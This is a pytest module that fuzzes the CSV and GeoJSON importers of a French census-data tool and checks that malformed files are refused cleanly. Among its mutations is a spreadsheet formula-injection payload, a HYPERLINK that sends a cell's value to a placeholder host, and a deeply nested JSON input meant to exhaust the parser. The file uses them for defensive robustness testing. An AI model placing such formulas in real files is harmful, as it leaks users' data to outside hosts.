"""Issue 10: generated bad files for every import kind. Each must end with exit 2, a French
report naming what is wrong, no traceback and the store byte-identical; valid files and
empty appends end with exit 0. A bounded, seeded run by default; a long one when slow."""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest

from mixite.cli.main import main
from mixite.core.model import TABLES_BY_NAME, USER_TABLES
from mixite.io.exporters import write_import_csv
from mixite.io.importers import import_file
from mixite.io.store import Store
from tests import suite_postgres
from tests.conftest import REAL, require_shared, sha256
from tests.twin.conftest import make_twin

ENTITY_KINDS = list(USER_TABLES)
REAL_KINDS = {
    "filosofi-carreaux": "filosofi-carreaux-martinique/Filosofi2017_carreaux_200m_mart.csv",
    "filosofi-communes": "filosofi-communes-2016/filosofi_epci_2016.csv",
    "recensement-iris": "rp2016-iris-habitat/IRIS_housing_IR_Hab.csv",
    "qpv": "qpv-occitanie/qp.csv",
}
GEO_KINDS = {
    "communes": "qpv-occitanie/communes.geojson",
    "qpv-geo": "qpv-occitanie/qp.geojson",
}


def _lines(path: Path, n: int = 30) -> list[str]:
    with path.open(encoding="utf-8-sig") as fh:
        return [next(fh).rstrip("\r\n") for _ in range(n) if True]


def _sep(header: str) -> str:
    return max((",", ";", "\t"), key=header.count)


Mutation = Callable[[list[str], random.Random], bytes]


def _text(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


def _cell_mutation(value: Callable[[str, random.Random], str]) -> Mutation:
    def mutate(lines: list[str], rng: random.Random) -> bytes:
        sep = _sep(lines[0])
        row = rng.randrange(1, len(lines))
        cells = lines[row].split(sep)
        col = rng.randrange(len(cells))
        cells[col] = value(cells[col], rng)
        return _text([*lines[:row], sep.join(cells), *lines[row + 1 :]])

    return mutate


MUTATIONS: dict[str, Mutation] = {
    "extra field": lambda ls, rng: _text([ls[0], ls[1] + _sep(ls[0]) + "x", *ls[2:]]),
    "missing field": lambda ls, rng: _text(
        [ls[0], _sep(ls[0]).join(ls[1].split(_sep(ls[0]))[:-1]), *ls[2:]]
    ),
    "truncated": lambda ls, rng: _text(ls)[: len(_text(ls)) // 2 + 3],
    "random bytes": lambda ls, rng: bytes(rng.randrange(256) for _ in range(300)),
    "dropped column": lambda ls, rng: _text(
        [_sep(ls[0]).join(x.split(_sep(ls[0]))[1:]) for x in ls]
    ),
    "duplicated column": lambda ls, rng: _text(
        [x + _sep(ls[0]) + x.split(_sep(ls[0]))[0] for x in ls]
    ),
    "NUL in a cell": _cell_mutation(lambda v, rng: v[:1] + "\x00" + v[1:]),
    "zero-width space": _cell_mutation(lambda v, rng: v + "\u200b"),
    "full-width digit": _cell_mutation(
        lambda v, rng: v.replace("1", "１").replace("0", "０") + "１"
    ),
    "huge number": _cell_mutation(lambda v, rng: "99999999999999999999"),
    "far date": _cell_mutation(lambda v, rng: "0001-01-01"),
    "formula": _cell_mutation(lambda v, rng: '=HYPERLINK("http://x.invalid/?d="&C1)'),
    "latin-1 bytes": lambda ls, rng: _text(ls).replace(b"e", "é".encode("latin-1"), 3),
}


@pytest.fixture(scope="module")
def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, Path]]:
    """For every kind: a valid small file and a store holding what it refers to."""
    require_shared()
    d = tmp_path_factory.mktemp("bases")
    twin = make_twin(scale=0.02)
    full = {
        k: write_import_csv(twin.tables[k], TABLES_BY_NAME[k], d / f"{k}-all.csv")
        for k in ENTITY_KINDS
    }
    store = Store(d / "ref.duckdb")
    for k in ENTITY_KINDS:
        import_file(k, full[k], store)
    out: dict[str, tuple[Path, Path]] = {}
    for k in ENTITY_KINDS:
        # New rows (not yet in the store) that refer to stored rows: the store is the
        # one without this table, so keys and references both check.
        sample = twin.tables[k].head(25)
        path = write_import_csv(sample, TABLES_BY_NAME[k], d / f"{k}.csv")
        own = Store(d / f"{k}.duckdb")
        for other in ENTITY_KINDS[: ENTITY_KINDS.index(k)]:
            import_file(other, full[other], own)
        out[k] = (path, own.path)
    for k, rel in REAL_KINDS.items():
        path = d / k / Path(rel).name  # the file's own name (it carries its vintage)
        path.parent.mkdir()
        path.write_text("\n".join(_lines(REAL / rel)) + "\n", encoding="utf-8")
        out[k] = (path, d / f"{k}.duckdb")
    return out


def _run(kind: str, path: Path, store: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    before = sha256(store) if suite_postgres.existe(store) else None
    code = main(["importer", kind, str(path), "--store", str(store)])
    out = capsys.readouterr()
    after = sha256(store) if suite_postgres.existe(store) else None
    if code != 0:
        assert after == before, f"{kind}: store changed on a refused file"
    return code, out.err


def _fresh(store: Path, tmp_path: Path) -> Path:
    """A working copy of ``store`` (or no file when the kind needs none)."""
    work = tmp_path / "work.duckdb"
    suite_postgres.effacer(work)
    if suite_postgres.existe(store):
        suite_postgres.copier(store, work)
    return work


def _check_all(
    bases: dict[str, tuple[Path, Path]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    seeds: range,
) -> dict[str, int]:
    outcomes = {"refused": 0, "accepted": 0}
    for kind, (base, store) in bases.items():
        lines = base.read_text(encoding="utf-8").splitlines()
        code, err = _run(kind, base, _fresh(store, tmp_path), capsys)
        assert code == 0, f"{kind}: the valid base file was refused:\n{err}"
        for seed in seeds:
            for name, mutate in MUTATIONS.items():
                rng = random.Random(f"{kind}-{name}-{seed}")
                bad = tmp_path / base.name
                bad.write_bytes(mutate(lines, rng))
                code, err = _run(kind, bad, _fresh(store, tmp_path), capsys)
                assert code in (0, 2), f"{kind} / {name}: exit {code}\n{err}"
                assert "Traceback" not in err and "erreur interne" not in err, (
                    f"{kind} / {name}:\n{err}"
                )
                if code == 2:
                    assert err.startswith("Import refusé") or err.startswith("mixite :"), err
                    outcomes["refused"] += 1
                else:
                    outcomes["accepted"] += 1
    return outcomes


def test_every_kind_refuses_generated_bad_files(
    bases: dict[str, tuple[Path, Path]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outcomes = _check_all(bases, tmp_path, capsys, range(1))
    # Mutations that cannot apply to a kind (a date where there is none) may pass.
    assert outcomes["refused"] >= 0.7 * (outcomes["refused"] + outcomes["accepted"]), outcomes


@pytest.mark.slow
def test_every_kind_refuses_generated_bad_files_long(
    bases: dict[str, tuple[Path, Path]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _check_all(bases, tmp_path, capsys, range(1, 8))


def test_geojson_kinds_refuse_bad_geometry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    require_shared()
    import json

    doc = json.loads((REAL / GEO_KINDS["communes"]).read_text(encoding="utf-8"))
    store = tmp_path / "g.duckdb"
    cases = {
        "not an object": lambda d: d["features"].__setitem__(0, 7),
        "point": lambda d: d["features"][0].__setitem__(
            "geometry", {"type": "Point", "coordinates": [3.0, 50.0]}
        ),
        "lambert": lambda d: (
            d["features"][0]["geometry"].__setitem__(
                "coordinates",
                [[[700000, 7000000], [701000, 7000000], [701000, 7001000], [700000, 7000000]]],
            )
            if d["features"][0]["geometry"]["type"] == "Polygon"
            else d["features"][0].__setitem__(
                "geometry",
                {
                    "type": "Polygon",
                    "coordinates": [
                        [[700000, 7000000], [701000, 7000000], [701000, 7001000], [700000, 7000000]]
                    ],
                },
            )
        ),
        "crs": lambda d: d.__setitem__(
            "crs", {"type": "name", "properties": {"name": "EPSG:2154"}}
        ),
    }
    for name, change in cases.items():
        d = json.loads(json.dumps(doc))
        change(d)
        path = tmp_path / f"{name}.geojson"
        path.write_text(json.dumps(d), encoding="utf-8")
        code, err = _run("communes", path, store, capsys)
        assert code == 2 and err.startswith("Import refusé"), (name, err)
    deep = tmp_path / "deep.geojson"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    code, err = _run("communes", deep, store, capsys)
    assert code == 2 and "Traceback" not in err, err


def test_header_only_append_writes_nothing(
    bases: dict[str, tuple[Path, Path]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for kind, (base, store) in bases.items():
        header = tmp_path / base.name
        header.write_text(base.read_text(encoding="utf-8").splitlines()[0] + "\n", encoding="utf-8")
        work = _fresh(store, tmp_path)
        before = sha256(work) if suite_postgres.existe(work) else None
        code, err = _run(kind, header, work, capsys)
        assert code == 0, (kind, err)
        assert (sha256(work) if suite_postgres.existe(work) else None) == before, kind
